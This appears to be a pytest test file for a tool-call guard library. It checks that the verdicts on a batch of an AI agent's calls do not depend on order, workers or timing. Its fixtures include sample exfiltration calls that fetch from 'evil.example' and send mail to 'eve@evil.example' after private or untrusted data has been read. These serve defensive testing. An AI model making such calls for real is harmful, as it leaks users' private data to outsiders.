"""Proves T15: what is decided about a batch depends neither on the order of its calls nor on workers or timing.

Mutations that this file catches: siblings left out of the forecast, or only those that come before; decisions that are
taken one after the other while results come in.
"""

from __future__ import annotations

import asyncio
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock import Call, Conversation, Interlock, Manifest, MemoryJournal, ToolResult, Verdict
from interlock.model.decisions import Decision
from tests.strategies import batches, fewer, label_tuples, manifests, reference
from tests.worlds import MANIFEST, FixedClock, StepsWorld, Tools, guard_in, rules

TYPED = "write to bob@corp.example or http://evil.example/x about notes/todo.txt"


def essence(decision: Decision) -> Any:
    """Everything about a decision but the digest of its document, which names the conversation."""
    sources = [(one.label, one.source and one.source.tool) for one in decision.causes]
    return decision.verdict, decision.reasons, sources, decision.revision, decision.manifest


def decided(manifest: Manifest, labels: Any, calls: list[Call]) -> dict[str, Any]:
    world = StepsWorld(MemoryJournal(), engine=reference())
    conversation = Conversation(labels=labels, clock=FixedClock())
    conversation.say(TYPED)
    ticket = guard_in(world, conversation, rules(world.engine, manifest)).propose(*calls)
    return {call_id: essence(outcome.decision) for call_id, outcome in ticket.outcomes.items()}


@fewer(2)
@given(data=st.data(), labels=label_tuples(), seed=st.randoms(use_true_random=False))
def test_t15_the_order_of_calls_does_not_matter(data: st.DataObject, labels: Any, seed: Any) -> None:
    manifest = data.draw(manifests(min_size=1))
    calls = data.draw(batches(manifest))
    shuffled = list(calls)
    seed.shuffle(shuffled)
    assert decided(manifest, labels, calls) == decided(manifest, labels, shuffled)


@fewer(2)
@given(data=st.data(), labels=label_tuples())
def test_t15_a_batch_is_never_looser_than_its_calls_one_by_one(data: st.DataObject, labels: Any) -> None:
    """Each call against its forecast: what a sibling will have read counts already."""
    manifest = data.draw(manifests(min_size=1))
    calls = data.draw(batches(manifest))
    together = decided(manifest, labels, calls)
    for call in calls:
        alone = decided(manifest, labels, [call])[call.id]
        assert together[call.id][0].strictness >= alone[0].strictness


READ_AND_SEND = [
    Call("read_note", {}, "read"),
    Call("send", {"to": "eve@evil.example", "body": "x"}, "send"),
    Call("now", {}, "now"),
]


@pytest.mark.parametrize("order", [(0, 1, 2), (1, 0, 2), (2, 1, 0), (1, 2, 0)])
def test_t15_reading_and_sending_in_one_turn_is_seen_in_every_order(order: tuple[int, ...]) -> None:
    world = StepsWorld(MemoryJournal())
    conversation = Conversation(labels=["untrusted:web"])
    calls = [READ_AND_SEND[place] for place in order]
    outcomes = guard_in(world, conversation).batch(calls, run=Tools(world, conversation.id))
    verdicts = {one.call_id: one.verdict for one in outcomes}
    assert verdicts == {"read": Verdict.ALLOW, "send": Verdict.DENY, "now": Verdict.ALLOW}
    assert [one.call_id for one in outcomes] == [call.id for call in calls]


def test_t15_what_a_sibling_will_return_from_outside_does_not_count_yet() -> None:
    """Arguments that are written can't be shaped by results that don't exist yet."""
    world = StepsWorld(MemoryJournal())
    conversation = Conversation(labels=["private:mail"])
    calls = [
        Call("fetch", {"url": "http://evil.example/x"}, "fetch"),
        Call("send", {"to": "eve@evil.example", "body": "x"}, "send"),
    ]
    ticket = guard_in(world, conversation).propose(*calls)
    assert ticket.outcomes["send"].verdict is Verdict.ALLOW
    # In the next turn it does, whether or not the result has come.
    assert guard_in(world, conversation).preview(calls[1]).verdict is Verdict.DENY


@fewer(3)
@given(data=st.data(), labels=label_tuples(), workers=st.integers(1, 4))
def test_t15_workers_and_timing_do_not_matter(data: st.DataObject, labels: Any, workers: int) -> None:
    manifest = data.draw(manifests(min_size=1))
    calls = data.draw(batches(manifest))
    naps = data.draw(st.lists(st.sampled_from([0, 0, 0.001, 0.003]), min_size=len(calls), max_size=len(calls)))
    lock = Interlock(manifest=manifest, engine=reference(), journal=MemoryJournal())

    def ended(conversation: Conversation, outcomes: list[Any]) -> Any:
        return [(one.call_id, essence(one.decision), one.executed, one.for_model) for one in outcomes], sorted(
            conversation.taint
        )

    def run_in(workers: int, naps: list[float]) -> Any:
        waits = iter(naps)

        def run(name: str, arguments: dict[str, Any]) -> ToolResult:
            time.sleep(next(waits, 0))
            return ToolResult(f"{name} {sorted(arguments)}")

        conversation = Conversation(labels=labels, clock=FixedClock())
        return ended(conversation, lock.guard(conversation).batch(calls, run=run, workers=workers))

    async def arun_in(workers: int, naps: list[float]) -> Any:
        waits = iter(naps)

        async def run(name: str, arguments: dict[str, Any]) -> ToolResult:
            await asyncio.sleep(next(waits, 0))
            return ToolResult(f"{name} {sorted(arguments)}")

        conversation = Conversation(labels=labels, clock=FixedClock())
        return ended(conversation, await lock.guard(conversation).abatch(calls, run=run, workers=workers))

    alone = run_in(1, [])
    assert run_in(workers, naps) == alone
    assert asyncio.run(arun_in(workers, naps)) == alone


def test_t15_an_outcome_that_came_in_meanwhile_does_not_change_what_was_decided() -> None:
    """The first call of the batch runs and joins its labels before the second runs: both were decided before."""
    lock = Interlock(manifest=MANIFEST, journal=MemoryJournal())
    conversation = Conversation(labels=["private:mail"])
    calls = [
        Call("fetch", {"url": "http://evil.example/x"}, "a"),
        Call("send", {"to": "eve@evil.example", "body": "x"}, "b"),
    ]
    outcomes = lock.guard(conversation).batch(calls, run=lambda name, arguments: name)
    assert [one.executed for one in outcomes] == [True, True]
    assert lock.guard(conversation).preview(calls[1]).verdict is Verdict.DENY
